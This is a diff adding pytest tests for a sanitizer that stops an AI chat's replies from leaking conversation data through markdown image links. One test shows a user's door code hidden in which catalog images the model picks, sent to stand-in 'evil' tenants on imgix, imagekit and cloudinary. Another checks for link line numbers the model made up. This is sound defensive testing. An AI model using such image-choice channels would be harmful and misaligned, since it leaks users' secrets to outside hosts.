@@ -350,3 +350,67 @@ def test_the_middleware_serves_the_click_through_page() -> None:
     assert 'rel="noopener noreferrer nofollow"' in ok.text
     assert "<script" not in ok.text
     assert forged.status_code == 403
+
+
+COLOURS = ("navy", "olive", "black", "red")
+
+
+def catalog(host: str, names: tuple[str, ...]) -> list[dict[str, Any]]:
+    """A chat whose catalog tool listed product images on `host`."""
+    items = [{"name": n, "image": f"https://{host}/catalog/{n}.webp"} for n in names]
+    return said(json.dumps({"items": items}), user="What do the new jackets look like?")
+
+
+JACKETS = tuple(f"{cut}-{colour}" for cut in ("parka", "puffer", "shell") for colour in COLOURS)
+
+
+@pytest.mark.parametrize(
+    "host", ["acmeshop.blob.core.windows.net", "acme.imgix.net", "acme-assets.s3.amazonaws.com"]
+)
+def test_the_operator_s_own_tenant_named_in_the_allowlist_reads_its_own_images(
+    host: str,
+) -> None:
+    """An allowlist entry that names a tenant itself names the operator's own account:
+    only the operator reads its logs, so choosing 4 of its 12 images (over 8 bits)
+    sends nobody data."""
+    policy = Policy(allowed_image_hosts=[host])
+    chat = catalog(host, JACKETS)
+    reply = "".join(f"![{n}](https://{host}/catalog/{n}.webp)\n\n" for n in JACKETS[::3])
+    assert Sanitizer(policy).run(reply, conversation=chat).text == reply
+
+
+@pytest.mark.parametrize(
+    ("entry", "host", "path"),
+    [
+        # the suffix names the service, not the tenant: any customer reads its own logs
+        ("imgix.net", "evil.imgix.net", "/catalog"),
+        # a tenant in the path: the entry names the shared host, not this account
+        ("ik.imagekit.io", "ik.imagekit.io", "/evil/catalog"),
+        ("res.cloudinary.com", "res.cloudinary.com", "/evil/image/upload"),
+    ],
+)
+def test_an_allowlisted_service_s_other_tenants_still_count_what_the_model_chose(
+    entry: str, host: str, path: str
+) -> None:
+    policy = Policy(allowed_image_hosts=[entry])
+    chat = catalog(f"{host}{path}", JACKETS)
+    chat[0]["content"] = "My door code is 4471. What do the new jackets look like?"
+    # one image per digit of the code, each a copy the tool gave: the choice is the data
+    picks = (JACKETS[int(digit)] for digit in "4471")
+    reply = "".join(f"![jacket](https://{host}{path}/{n}.webp)\n" for n in picks)
+    result = Sanitizer(policy).run(reply, conversation=chat)
+    assert result.text != reply
+    assert {Reason.IMAGE_CHOICE} <= {r for f in result.findings for r in f.reasons}
+
+
+def test_a_line_number_the_chat_gave_marked_as_a_line_is_no_made_up_number() -> None:
+    chat = [{"role": "user", "content": "Link line 120 of src/server.ts in our repo acme/api."}]
+    reply = "https://github.com/acme/api/blob/main/src/server.ts#L120"
+    assert Sanitizer().run(reply, conversation=chat).text == reply
+    chat = said("Failed: https://ci.example-git.dev/acme/api/-/blob/main/x.ts at line 121")
+    page = "[line](https://ci.example-git.dev/acme/api/-/blob/main/x.ts?ref=L{})"
+    (given,) = Sanitizer().run(page.format(121), conversation=chat).findings
+    assert given.reasons == (Reason.OBSERVABLE_HOST_BUDGET,)  # 121 was given: bits only
+    (made_up,) = Sanitizer().run(page.format(9071), conversation=chat).findings
+    assert made_up.reasons == (Reason.CONVERSATION_DATA,)
+    assert "a number the conversation never gave" in (made_up.detail or "")
